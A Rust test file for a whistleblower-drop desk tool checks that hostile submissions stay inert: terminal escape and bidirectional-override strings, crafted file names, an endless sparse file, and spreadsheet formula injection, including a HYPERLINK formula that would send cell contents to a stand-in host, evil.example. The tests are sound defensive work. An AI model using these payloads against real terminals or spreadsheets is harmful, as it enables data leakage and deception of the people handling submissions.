//! Visitors who mean harm, and servers that were taken over.

use dropsafe_form::{Answer, Answers, FieldName};
use proptest::prelude::*;

use dropsafe_desk::{sheet, terminal};

use crate::desk::{Desk, Receiver, Sent};

const WORST: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{202e}txt.exe\u{2066}\u{200f}\r\u{8}";

/// An envelope that no honest receiver would make: its form would not have let these characters through.
fn forged(desk: &Desk, key: &dropsafe_envelope::RecipientSet, text: &str) {
    use dropsafe_envelope::{Content, Padding, Record, Sealer};
    let mut receiver = Receiver::new(&desk.path("spool"), key);
    receiver.takes(&Sent { values: &[("alias", "honest")], ..Sent::default() });
    let form = crate::desk::form();
    let typed = ["alias", "message"];
    let answer = |name: &FieldName| typed.contains(&name.as_str()).then(|| Answer::Text(text.to_owned()));
    let fields = form.fields().filter(|field| field.most_files() == 0).map(|field| field.name.clone());
    let answers = Answers(fields.map(|name| (name.clone(), answer(&name))).collect());
    let mut sealer = Sealer::begin(&receiver.sealing, Vec::new());
    sealer.start_file(&FieldName::new("files").unwrap(), text).unwrap();
    sealer.write_file(b"x").unwrap();
    sealer.end_file().unwrap();
    let language = dropsafe_form::Language::english();
    let receipt = "zoo zoo zoo zoo".parse().unwrap();
    let content = Content::Submission { form: &form, language: &language, receipt, answers: &answers };
    let record = Record { received: "2026-11-21".parse().unwrap(), stream: receiver.stream, sequence: 1, content };
    std::fs::write(desk.path("forged.age"), sealer.finish(record, Padding::NextStep).unwrap()).unwrap();
}

#[test]
fn nothing_that_a_visitor_writes_acts_on_the_terminal() {
    let (desk, key) = Desk::with_key();
    forged(&desk, &key, WORST);
    desk.run(&["import", "spool", "forged.age"]).done();
    for arguments in [&["list"][..], &["list", "--json"], &["show", "2"], &["show", "2", "--json"], &["export", "--json"]] {
        let seen = desk.run(arguments).done();
        let acting = seen.out.chars().find(|c| terminal::acts(*c) && *c != '\n');
        assert_eq!(acting, None, "{arguments:?}: {}", seen.out);
    }
    let shown = desk.run(&["show", "2"]).done().out;
    assert!(shown.contains(r"\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{202e}txt.exe"), "it is visible: {shown}");

    // The value itself is the same.
    let json: serde_json::Value = serde_json::from_str(&desk.run(&["show", "2", "--json"]).done().out).unwrap();
    assert_eq!(json["answers"]["message"], WORST);
}

#[test]
fn names_of_files_on_a_stick_dont_act_either() {
    let (desk, _) = Desk::with_key();
    std::fs::create_dir(desk.path("stick")).unwrap();
    std::fs::write(desk.path("stick/\u{1b}[2J\u{202e}\n.age"), "not an envelope").unwrap();
    let import = desk.run(&["import", "stick"]);
    assert_eq!(import.status, 1);
    assert!(import.err.contains(r"failed: stick/\u{1b}[2J\u{202e}\n.age"), "{}", import.err);
}

#[test]
fn a_file_without_end_doesnt_keep_the_rest_from_coming_in() {
    let (desk, key) = Desk::with_key();
    Receiver::new(&desk.path("spool"), &key).takes(&Sent::default());
    // It takes no room on the disk, and days to read.
    std::fs::File::create(desk.path("spool/new/endless.age")).unwrap().set_len(1 << 40).unwrap();
    let begun = std::time::Instant::now();
    let import = desk.run(&["import", "spool"]);
    assert!(begun.elapsed().as_secs() < 60);
    assert_eq!(import.status, 1);
    assert!(import.err.contains("larger than any envelope"), "{}", import.err);
    assert!(import.out.contains("1 new"), "{}", import.out);
}

#[test]
fn formulas_stay_text_in_a_spreadsheet() {
    let (desk, key) = Desk::with_key();
    let mut receiver = Receiver::new(&desk.path("spool"), &key);
    receiver.takes(&Sent { values: &[("alias", "=HYPERLINK(\"https://evil.example/?\"&A1)"), ("phone", "+44 20")], ..Sent::default() });
    // Where people write 1,5 for one and a half, spreadsheets part cells at semicolons, and care for no quotation mark here.
    receiver.takes(&Sent { values: &[("alias", "a;=1+1;b")], ..Sent::default() });
    desk.run(&["import", "spool"]).done();
    let csv = desk.run(&["export", "--csv"]).done().out;
    assert!(csv.contains(r#","a;'=1+1;b","#), "{csv}");
    assert!(csv.contains(r#""'=HYPERLINK(""https://evil.example/?""&A1)","'+44 20""#), "{csv}");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn a_guarded_cell_is_text_and_can_be_told_back(cell in any::<String>()) {
        let guarded = sheet::guarded(&cell);
        prop_assert!(!guarded.trim_start().starts_with(['=', '+', '-', '@']));
        let parts = guarded.split_inclusive([';', '\t', '\n', '\r']);
        prop_assert_eq!(parts.map(|part| part.strip_prefix('\'').unwrap_or(part)).collect::<String>(), cell);
    }
}
